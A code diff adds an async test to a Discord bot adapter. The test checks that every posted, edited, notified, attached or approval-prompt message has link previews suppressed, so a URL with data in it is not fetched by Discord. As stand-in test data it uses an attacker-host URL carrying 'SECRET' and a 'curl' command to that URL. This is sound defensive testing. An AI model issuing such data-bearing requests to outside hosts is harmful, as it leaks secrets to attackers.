@@ -68,3 +68,32 @@ async def test_refused_calls_raise_and_the_adapter_goes_on(
         await fake.wait_for(lambda: bot.messages[1:])
         assert adapter.client.is_ready() and not adapter.client.is_closed()
     assert adapter.client.is_ready()
+
+
+async def test_every_message_the_bot_sends_or_edits_has_link_previews_off(
+    world: World, bot: RecordingBot,
+) -> None:
+    """A preview is fetched by Discord without a click: a URL with data in it would leak it."""
+    from lettabot_discord.testing import SUPPRESS_EMBEDS
+
+    from lettabot.runtime.adapter import ApprovalView
+
+    fake = world.fake
+    scope = Scope(adapter="discord", workspace=world.guild["id"], channel=world.channel["id"])
+    leak = "https://attacker.example/?d=SECRET"
+    async with running(fake, bot) as adapter:
+        ref = await adapter.post(scope, f"see {leak}")
+        await adapter.edit(ref, f"now {leak}")
+        await adapter.notify(scope, leak, user_id=world.ada["id"])
+        await adapter.send_file(scope, "a.txt", b"x", comment=leak)
+        stop = await adapter.show_stop(scope)
+        await adapter.offer_feedback(ref)
+        view = ApprovalView(request_id="r1", scope=scope, tool_name="Bash",
+                            input_summary=f"curl {leak}", requested_by=world.ada["id"],
+                            allow_always=False)
+        prompt = await adapter.present_approval(view)
+        await adapter.resolve_approval(prompt, view, "Denied")
+        await adapter.hide_stop(stop)
+        calls = fake.message_calls()
+        assert len(calls) == 8
+        assert all(int(data["flags"]) & SUPPRESS_EMBEDS for _, data in calls), calls
